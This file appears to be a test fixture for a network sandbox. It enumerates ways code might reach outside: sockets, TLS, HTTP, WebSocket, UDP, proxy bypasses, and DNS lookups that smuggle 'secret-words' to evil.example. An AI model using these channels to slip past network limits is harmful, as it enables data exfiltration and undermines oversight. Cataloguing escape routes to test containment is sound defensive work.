import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import tls from 'node:tls';
import type { Outdoors } from './outdoors.ts';
import { once, type WayOut } from './way-out.ts';

/** Sockets, datagrams, questions to name servers, and proxies. */
export function lowerWays(): WayOut[] {
  return [...others(), ...questions(), ...proxies()];
}

function others(): WayOut[] {
  const to = (says: string, go: WayOut['go']): WayOut => ({ says, go });
  const connect = (open: (secret: number) => net.Socket) => (outdoors: Outdoors) =>
    once((done, fail) => open(outdoors.secret).on('connect', done).on('error', fail));
  return [
    to(
      'net.connect by port and host',
      connect((port) => net.connect(port, '127.0.0.1')),
    ),
    to(
      'net.connect by port alone',
      connect((port) => net.connect(port)),
    ),
    to(
      'connect by options',
      connect((port) => new net.Socket().connect({ port, host: 'evil.example' })),
    ),
    to(
      'net.createConnection',
      connect((port) => net.createConnection({ port, host: 'evil.example' })),
    ),
    to(
      'new Socket',
      connect((port) => new net.Socket().connect(port, 'evil.example')),
    ),
    to(
      'a look-up of its own',
      connect((port) =>
        net.connect({
          port,
          host: 'evil.example',
          lookup: (_name, _options, done) => done(null, '127.0.0.1', 4),
        }),
      ),
    ),
    to(
      'tls.connect',
      connect((port) => tls.connect({ port, host: 'evil.example' })),
    ),
    to('a local socket', ({ pipe }) => once((done, fail) => net.connect(pipe, () => done(null)).on('error', fail))),
    to('http.request with its own agent', ({ secret }) =>
      once((done, fail) =>
        http.get({ host: 'evil.example', port: secret, agent: new http.Agent() }, done).on('error', fail),
      ),
    ),
    to('https.get', ({ secret }) =>
      once((done, fail) => https.get(`https://evil.example:${secret}/`, done).on('error', fail)),
    ),
    to('http2', ({ secret }) =>
      once((done, fail) => {
        const session = http2.connect(`http://evil.example:${secret}`).on('error', fail);
        session.request({ ':path': '/' }).on('response', done).on('error', fail);
      }),
    ),
    to('WebSocket', ({ secret }) => webSocket(`ws://evil.example:${secret}/`)),
    to('WebSocket to a literal', ({ secret }) => webSocket(`ws://127.0.0.1:${secret}/`)),
    to('WebSocket over TLS', ({ secret }) => webSocket(`wss://evil.example:${secret}/`)),
    to('our client: ftp', ({ fetch, secret }) => fetch(`ftp://evil.example:${secret}/`)),
    to('our client: file', ({ fetch }) => fetch('file:///etc/hostname')),
    to('our client: data', ({ fetch }) => fetch('data:text/plain,hej')),
    to('our client: a body that would be sent on', ({ fetch, allowed }) =>
      fetch(`${allowed}/redirect?status=307&to=/`, { method: 'POST', body: 'hej' }),
    ),
    to('our client: an address for another purpose', ({ modelFetch, allowed }) => modelFetch(allowed)),
    to('a datagram', ({ secret }) => datagram((socket, done) => socket.send('hej', secret, '127.0.0.1', done))),
    to('a datagram by offset', ({ secret }) =>
      datagram((socket, done) => socket.send('hej', 0, 3, secret, '127.0.0.1', done)),
    ),
    to('a datagram without a host', ({ secret }) => datagram((socket, done) => socket.send('hej', secret, done))),
    to('a datagram to a name', ({ secret }) =>
      datagram((socket, done) => socket.send('hej', secret, 'vendor.example', done)),
    ),
    to('a datagram to the allowed name', ({ allowedPort }) =>
      datagram((socket, done) => socket.send('hej', allowedPort, 'localhost', done)),
    ),
    to('a connected datagram', ({ secret }) =>
      datagram((socket, done) => socket.connect(secret, '127.0.0.1', (error?: Error) => done(error ?? null))),
    ),
  ];
}

/** What a name server is asked carries words out. */
function questions(): WayOut[] {
  const name = 'secret-words.evil.example';
  const asked = [
    'lookup',
    'resolve',
    'resolve4',
    'resolve6',
    'resolveTxt',
    'resolveMx',
    'resolveAny',
    'resolveSrv',
  ] as const;
  const ask: Readonly<Record<(typeof asked)[number], (name: string, done: (error: Error | null) => void) => unknown>> =
    dns;
  return [
    ...asked.flatMap((question): WayOut[] => [
      {
        says: `dns.${question}`,
        go: () =>
          once((done, fail) => ask[question](name, (error: Error | null) => (error ? fail(error) : done(null)))),
      },
      { says: `dns.promises.${question}`, go: () => dns.promises[question](name) },
    ]),
    {
      says: 'a resolver of its own',
      go: () => once((done, fail) => new dns.Resolver().resolve4(name, (error) => (error ? fail(error) : done(null)))),
    },
    { says: 'a resolver of promises', go: () => new dns.promises.Resolver().resolveTxt(name) },
    { says: 'dns.reverse', go: () => dns.promises.reverse('192.0.2.1') },
  ];
}

function proxies(): WayOut[] {
  return [
    { says: 'fetch to the proxy itself', go: ({ proxy }) => fetch(`${proxy}/`) },
    {
      says: 'a socket to the proxy',
      go: ({ proxyPort }) =>
        once((done, fail) => net.connect(proxyPort, 'localhost', () => done(null)).on('error', fail)),
    },
    { says: 'http to an unlisted host through the proxy', go: ({ proxyFetch }) => proxyFetch('http://evil.example/') },
    {
      says: 'https to an unlisted host through the proxy',
      go: ({ proxyFetch }) => proxyFetch('https://evil.example/'),
    },
    { says: 'a literal through the proxy', go: ({ proxyFetch, secret }) => proxyFetch(`http://127.0.0.1:${secret}/`) },
    {
      says: 'the agent by itself',
      go: ({ proxyAgents }) =>
        once((done, fail) => https.get('https://evil.example/', { agent: proxyAgents.https }, done).on('error', fail)),
    },
    {
      says: "the agent's plain one",
      go: ({ proxyAgents }) =>
        once((done, fail) => http.get('http://evil.example/', { agent: proxyAgents.http }, done).on('error', fail)),
    },
  ];
}

function webSocket(url: string): Promise<unknown> {
  return once((done, fail) => {
    const socket = new WebSocket(url);
    socket.addEventListener('open', done);
    socket.addEventListener('error', () => fail(new Error('refused')));
  });
}

function datagram(send: (socket: dgram.Socket, done: (error: Error | null) => void) => void): Promise<unknown> {
  const socket = dgram.createSocket('udp4');
  return once((done, fail) => {
    socket.on('error', fail);
    send(socket, (error) => (error ? fail(error) : done(null)));
  }).finally(() => socket.close());
}
